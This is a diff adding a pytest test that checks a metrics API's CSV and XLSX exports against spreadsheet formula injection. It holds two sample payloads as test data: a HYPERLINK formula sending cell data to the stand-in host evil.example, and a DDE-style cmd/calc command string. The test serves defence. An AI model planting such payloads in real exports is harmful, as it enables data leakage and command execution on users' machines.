@@ -206,3 +206,51 @@ def test_the_rollup_answers_once_built_with_the_same_counts(
     # A community is not in the rollup: the live query answers.
     by_community = _summary(client, world.admin, group_by="community")
     assert by_community["source"] == "live"
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_exports_never_carry_a_live_formula(client: TestClient, db: Session, world: World) -> None:
+    """A county admin names a community like a formula; the province admin's
+    exports show it as text (OWASP CSV injection)."""
+    _world_tickets(db, world)
+    renamed = client.patch(
+        f"/v1/communities/{world.community_a}", json={"name": FORMULA}, headers=world.admin.headers
+    )
+    assert renamed.status_code == 200, renamed.text
+    client.patch(
+        f"/v1/communities/{world.community_b}",
+        json={"name": "@SUM(1+1)*cmd|' /C calc'!A0"},
+        headers=world.admin.headers,
+    )
+    params = {**PERIOD, "group_by": "community"}
+    headers = world.province_admin.headers
+
+    as_csv = client.get("/v1/metrics/summary", params={**params, "format": "csv"}, headers=headers)
+    assert as_csv.status_code == 200, as_csv.text
+    table = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
+    names = [row[0] for row in table[1:]]
+    assert "'" + FORMULA in names
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names
+    for row in table:
+        for value in row:
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
+            assert not (value.startswith("-") and not _is_number(value)), row
+
+    as_xlsx = client.get(
+        "/v1/metrics/summary", params={**params, "format": "xlsx"}, headers=headers
+    )
+    assert as_xlsx.status_code == 200, as_xlsx.text
+    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert "'" + FORMULA in [c.value for c in cells]
+
+
+def _is_number(value: str) -> bool:
+    try:
+        float(value)
+    except ValueError:
+        return False
+    return True
